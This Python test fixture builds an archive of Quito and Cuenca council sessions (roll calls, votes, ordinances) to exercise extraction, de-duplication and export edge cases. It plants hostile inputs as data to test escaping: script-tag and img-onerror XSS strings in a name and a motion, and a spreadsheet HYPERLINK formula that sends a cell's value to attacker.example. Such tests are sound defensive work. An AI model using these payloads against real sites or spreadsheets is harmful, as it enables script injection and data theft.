"""An archive of what two councils did, for the pages and API of issue 11: sessions whose actas were read,
with roll calls, votes (by table and in prose), an entry to the chamber and ordinance identifiers, saved
through the real catalogue (`save_proceedings`) as the extract step leaves them.

Quito, session 1 (2024-01-15): the roll call (3 present, as stated) and two table votes: the first debate
of ordinance IC-ORD-2024-001 (approved, totals as printed) and a reconsideration whose motion carries markup
and whose ballots do not add up to the printed totals (rejected). Session 2 (2024-02-12): a roll call whose
stated count (4) is not the list's (3), with a hostile name; "Ana Peres López" entering (one letter off Ana
Pérez López: kept apart, listed for review); the ordinance's second debate (approved) and a prose vote whose
motion is a spreadsheet formula. Cuenca, session 1 (2024-03-05): its own Ana Pérez López (another person:
another council) in a roll call and a rejected vote on the participatory budget.

`add_edge_cases` adds, for the tests that want them, a Quito acta of no session (a document a listing gives
without one, as crawler.items.DocumentItem does) with a roll call, a table vote and an item mention; and
Quito's session 3 (2024-04-01), whose acta states a quorum without listing anyone and prints a vote's total
for one choice only (its members' ballots count three).
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field
from pathlib import Path

from archive import Catalogue, open_catalogue
from concejo.config import load_settings
from extract.proceedings.model import Entry, ItemMention, Movement, Proceedings, RollCall, Vote

QUITO, QUITO_NAME = "quito", "Concejo Metropolitano de Quito"
CUENCA, CUENCA_NAME = "cuenca", "Concejo Cantonal de Cuenca"
ANA, JUAN, LUIS, MARIA = "Ana Pérez López", "Juan Vera Mora", "Luis Mora Ruiz", "María Díaz Castro"
ANA_STAMP = "ANA PEREZ LOPEZ"  # how an e-signature stamp prints her: the same person
ANA_MISSPELT = "Ana Peres López"  # one letter off: kept apart and listed for review
ROSA = "Rosa Vega Paz"
HOSTILE_NAME = "Pedro <script>alert(1)</script> Ruiz"
HOSTILE_MOTION = "Reconsiderar la resolución de tránsito <img src=x onerror=alert(1)>"
FORMULA_MOTION = '=HYPERLINK("http://attacker.example/?"&A1,"ver")'
ORDINANCE = "IC-ORD-2024-001"
RESOLUTION = "Resolución No. CDMQ-022-2024"
MOTION_FIRST = "Aprobar en primer debate el proyecto de Ordenanza de presupuesto participativo"
MOTION_SECOND = "Segundo debate de la Ordenanza de presupuesto participativo"
MOTION_CUENCA = "Presupuesto participativo de las parroquias rurales"
MISMATCH = "Los votos por miembro no suman el total impreso en el acta"
LOOSE_MOTION = "Aprobar el acta suelta del archivo histórico"
LOOSE_ITEM = "IC-ORD-2019-007"
NEW_MEMBER = "Marta Quishpe Andrade"  # votes once, in session 3
MOTION_THIRD = "Ampliación del plazo de la consulta"


def _vote(page, motion, entries, printed, *, result, identifiers=(), method="tabla", result_text=None) -> Vote:
    counted: dict[str, int] = {}
    for entry in entries:
        counted[entry.choice] = counted.get(entry.choice, 0) + 1
    return Vote(page=page, method=method, motion=motion, identifiers=list(identifiers), entries=entries,
                printed_totals=printed, counted_totals=counted,
                totals_match=None if printed is None else printed == counted, result=result,
                result_text=result_text, result_page=page if result_text else None)


def _e(name: str, choice: str, page: int, column: str | None = None) -> Entry:
    return Entry(name=name, choice=choice, column=column or choice.upper().replace("_", " "), page=page)


# key -> (council, date, number, acta title, pages, proceedings)
SESSIONS = {
    "q1": (QUITO, "2024-01-15", 1, "Acta de la sesión ordinaria 1", 3, Proceedings(
        roll_calls=[RollCall(page=1, moment="inicio", heading="VERIFICACIÓN CUÓRUM – INICIO SESIÓN", entries=[
            _e(ANA, "presente", 1), _e(JUAN, "presente", 1), _e(LUIS, "ausente", 1), _e(MARIA, "presente", 1)],
            stated_count=3, stated_text="Tres integrantes del Pleno presentes", stated_page=1)],
        votes=[
            _vote(2, MOTION_FIRST, [_e(ANA_STAMP, "a_favor", 2), _e(JUAN, "en_contra", 2), _e(MARIA, "a_favor", 2),
                                    _e(LUIS, "ausente", 2)],
                  {"a_favor": 2, "en_contra": 1, "ausente": 1}, result="aprobada", identifiers=[ORDINANCE],
                  result_text="Ha sido aprobada la moción"),
            _vote(3, HOSTILE_MOTION, [_e(ANA, "abstencion", 3), _e(JUAN, "a_favor", 3), _e(MARIA, "blanco", 3)],
                  {"a_favor": 2, "abstencion": 1, "blanco": 1}, result="rechazada", identifiers=[RESOLUTION]),
        ],
        items=[ItemMention(ORDINANCE, 2, "primer_debate"), ItemMention(RESOLUTION, 3, "mencion")],
    )),
    "q2": (QUITO, "2024-02-12", 2, "Acta de la sesión ordinaria 2", 3, Proceedings(
        roll_calls=[RollCall(page=1, moment="inicio", heading="CONSTATACIÓN DEL QUÓRUM", entries=[
            _e(ANA, "presente", 1), _e(JUAN, "excusado", 1), _e(LUIS, "presente", 1), _e(MARIA, "presente", 1),
            _e(HOSTILE_NAME, "ausente", 1)], stated_count=4, stated_text="Cuatro concejales presentes",
            stated_page=1)],
        movements=[Movement(page=2, direction="entra", names=[ANA_MISSPELT], time="10:50", count_after=4,
                            text=f"Ingresa a la sala de sesiones la concejala {ANA_MISSPELT}, a las 10:50")],
        votes=[
            _vote(2, MOTION_SECOND, [_e(ANA, "a_favor", 2), _e(LUIS, "a_favor", 2), _e(MARIA, "en_contra", 2)],
                  {"a_favor": 2, "en_contra": 1}, result="aprobada", identifiers=[ORDINANCE]),
            _vote(3, FORMULA_MOTION, [], None, method="unanimidad", result="aprobada",
                  result_text="Se aprueba por unanimidad"),
        ],
        items=[ItemMention(ORDINANCE, 2, "segundo_debate")],
    )),
    "c1": (CUENCA, "2024-03-05", 1, "Acta de la sesión ordinaria 1 de Cuenca", 1, Proceedings(
        roll_calls=[RollCall(page=1, moment="inicio", heading="ASISTENCIA", entries=[
            _e(ANA, "presente", 1), _e(ROSA, "presente", 1)])],
        votes=[_vote(1, MOTION_CUENCA, [_e(ANA, "a_favor", 1), _e(ROSA, "en_contra", 1)],
                     {"a_favor": 1, "en_contra": 1}, result="rechazada")],
    )),
}
BALLOTS = {"q1": 4 + 3, "q2": 3 + 1, "c1": 2}  # export rows: one per ballot, one per prose vote
ATTENDANCE_ENTRIES = {"q1": 4, "q2": 5, "c1": 2}


@dataclass
class ProceedingsArchive:
    catalogue: Catalogue
    sessions: dict[str, int] = field(default_factory=dict)  # session key -> id
    documents: dict[str, int] = field(default_factory=dict)  # session key -> its acta's id
    votes: dict[str, int] = field(default_factory=dict)  # motion -> vote id

    def person(self, name: str, council: str = QUITO) -> int:
        """The id of the person a printed name resolved to in the council (as the members list shows them)."""
        found = [p["id"] for p in self.catalogue.people(council) if p["name"] == name or name in p["aliases"]]
        assert len(found) == 1, (name, council, self.catalogue.people(council))
        return found[0]


def build(catalogue: Catalogue) -> ProceedingsArchive:
    """Fill an empty catalogue with both councils' sessions and what their actas record."""
    councils = {QUITO: catalogue.ensure_council(QUITO, QUITO_NAME, "https://concejo.quito.example/"),
                CUENCA: catalogue.ensure_council(CUENCA, CUENCA_NAME, "https://concejo.cuenca.example/")}
    catalogue.upsert_commission(councils[QUITO], "presupuesto", "Comisión de Presupuesto",
                                [{"name": ANA, "role": "Presidenta"}, {"name": JUAN, "role": None}], None, None)
    built = ProceedingsArchive(catalogue)
    for key, (council, day, number, title, pages, proceedings) in SESSIONS.items():
        session = catalogue.upsert_session(councils[council], key, session_type="ordinaria", date=day,
                                           number=number, title=f"Sesión ordinaria {number}")
        url = f"http://127.0.0.1:8800/{key}.pdf"
        document = catalogue.list_document(councils[council], key, session_id=session, kind="acta", title=title,
                                           url=url)
        sha256 = hashlib.sha256(key.encode()).hexdigest()
        catalogue.record_fetch(url, sha256, 1000, media_type="application/pdf")
        catalogue.save_extraction(document, sha256, [{"number": n, "text": f"Página {n} del acta.", "origin": "digital"}
                                                     for n in range(1, pages + 1)], {}, [], extractor_version="test-1")
        catalogue.save_proceedings(document, proceedings.to_dict())
        built.sessions[key], built.documents[key] = session, document
    for council in (QUITO, CUENCA):
        for vote in catalogue.votes(council=council, limit=100)[1]:
            built.votes[vote["motion"]] = vote["id"]
    return built


def add_edge_cases(built: ProceedingsArchive) -> None:
    """The acta of no session (built.documents["suelta"]) and session 3 (built.sessions["q3"])."""
    catalogue = built.catalogue
    council = next(c["id"] for c in catalogue.councils() if c["slug"] == QUITO)
    loose = Proceedings(
        roll_calls=[RollCall(page=1, moment="inicio", heading="ASISTENCIA",
                             entries=[_e(ANA, "presente", 1), _e(JUAN, "ausente", 1)])],
        votes=[_vote(1, LOOSE_MOTION, [_e(ANA, "a_favor", 1), _e(JUAN, "ausente", 1)], {"a_favor": 1, "ausente": 1},
                     result="aprobada", identifiers=[LOOSE_ITEM])],
        items=[ItemMention(LOOSE_ITEM, 1, "aprobacion")],
    )
    third = Proceedings(
        roll_calls=[RollCall(page=1, moment="inicio", heading="CONSTATACIÓN DEL QUÓRUM", entries=[], stated_count=20,
                             stated_text="se encuentran presentes veinte integrantes; existe el quórum", stated_page=1)],
        votes=[_vote(1, MOTION_THIRD, [_e(NEW_MEMBER, "a_favor", 1), _e(LUIS, "ausente", 1), _e(MARIA, "ausente", 1)],
                     {"a_favor": 1}, result="aprobada")],
    )
    for key, session, proceedings in (("suelta", None, loose), ("q3", True, third)):
        if session:
            session = catalogue.upsert_session(council, key, session_type="ordinaria", date="2024-04-01", number=3,
                                               title="Sesión ordinaria 3")
            built.sessions[key] = session
        url = f"http://127.0.0.1:8800/{key}.pdf"
        document = catalogue.list_document(council, key, session_id=session, kind="acta", title=f"Acta {key}",
                                           url=url)
        sha256 = hashlib.sha256(key.encode()).hexdigest()
        catalogue.record_fetch(url, sha256, 1000, media_type="application/pdf")
        catalogue.save_extraction(document, sha256, [{"number": 1, "text": "Acta.", "origin": "digital"}], {}, [],
                                  extractor_version="test-1")
        catalogue.save_proceedings(document, proceedings.to_dict())
        built.documents[key] = document


def built_with_settings(data_dir: Path) -> ProceedingsArchive:
    """The archive built in `data_dir`'s catalogue, with the settings an app over it needs (as `.settings`);
    the caller closes `.catalogue`."""
    settings = load_settings(environ={}, data_dir=data_dir, ocr=False)
    archive = build(open_catalogue(settings.catalogue_url))
    archive.settings = settings
    return archive
